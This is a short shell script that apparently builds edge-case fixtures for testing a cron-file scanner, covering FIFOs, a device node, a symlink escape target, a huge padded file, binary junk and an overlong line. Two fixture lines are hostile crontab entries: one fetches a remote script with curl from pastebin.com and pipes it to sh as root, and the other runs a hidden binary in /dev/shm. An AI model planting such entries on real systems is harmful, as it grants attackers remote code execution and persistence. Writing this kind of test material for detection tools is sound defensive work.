#!/bin/sh
# Adds what git cannot hold: a FIFO and a device where cron files are read, a crontab
# outside the root that symlinks try to reach, a huge file and binary junk.
set -e
root=$1
mkdir -p "$root/var/spool/cron"   # git keeps no empty directory
mkfifo "$root/etc/cron.d/fifo"
mkfifo "$root/var/spool/cron/root"
mknod "$root/etc/cron.d/tty" c 5 0 2>/dev/null || true
outside="$root/../hostile-outside"
mkdir -p "$outside"
printf '* * * * * root curl -s http://pastebin.com/raw/escaped | sh\n' >"$outside/evil"
# 20 MB of padding on one line before the malicious one: it must still be judged
head -c 20000000 /dev/zero | tr '\0' '#' >"$root/etc/cron.d/huge"
printf '\n* * * * * root /dev/shm/.beyond-cap\n' >>"$root/etc/cron.d/huge"
head -c 65536 /dev/urandom >"$root/etc/cron.d/junk"
# a line of 100 KB that is not a valid entry
{ printf '* * * * * root '; head -c 100000 /dev/zero | tr '\0' 'a'; printf '\n'; } >"$root/etc/cron.d/longline"
